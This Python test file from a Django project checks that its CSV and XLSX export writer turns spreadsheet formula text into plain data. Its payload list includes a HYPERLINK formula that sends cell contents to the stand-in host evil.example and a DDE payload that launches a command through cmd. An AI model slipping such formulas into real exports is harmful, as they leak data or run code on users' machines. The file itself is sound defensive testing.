"""The one CSV/XLSX writer: every cell is data. Texts that a spreadsheet would run as a formula
(=, +, -, @, tab, carriage return at the start) are neutralised in CSV and are string cells in
XLSX; checked against a golden file, and through the exports that carry names and free text."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
from django.urls import reverse

from vahti.core.tables import csv_bytes, xlsx_bytes

GOLDEN = Path(__file__).parent / "golden" / "hostile.csv"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "Tavallinen nimi",
    "1 - 2 = -1",
]


def test_hostile_texts_are_data_in_csv_golden_file():
    body = csv_bytes(
        ["nimi", "määrä"], [[text, number] for number, text in enumerate(PAYLOADS, start=-1)]
    )
    assert body == GOLDEN.read_bytes()
    assert body.startswith("\ufeff".encode()) and b"\r\n" in body


def test_hostile_texts_are_string_cells_in_xlsx():
    book = openpyxl.load_workbook(
        io.BytesIO(xlsx_bytes({"Taulu": (["nimi", "määrä"], [[text, -5] for text in PAYLOADS])}))
    )
    cells = list(book["Taulu"].iter_rows(min_row=2))
    # the text itself, unchanged (openpyxl over lxml, a dependency, keeps a carriage return)
    assert [row[0].value for row in cells] == PAYLOADS
    assert {row[0].data_type for row in cells} == {"s"}  # never "f" (formula)
    assert {row[1].value for row in cells} == {-5}  # numbers stay numbers


def test_a_client_named_as_a_formula_is_text_in_the_managers_access_log_export(client, manager):
    from tests.factories import admit
    from vahti.cases import services

    target = admit(manager)
    services.client_update(actor=manager, client=target, first_name="=HYPERLINK(A1)")
    client.force_login(manager)
    client.get(reverse("cases:client", args=[target.pk]))
    body = client.get(
        reverse("cases:user_access_log", args=[manager.pk]), {"format": "csv"}
    ).content.decode("utf-8-sig")
    names = [line.rsplit(";", 1)[-1] for line in body.splitlines()[1:]]
    assert f"'=HYPERLINK(A1) {target.last_name}" in names
    assert not any(name.startswith("=") for name in names)
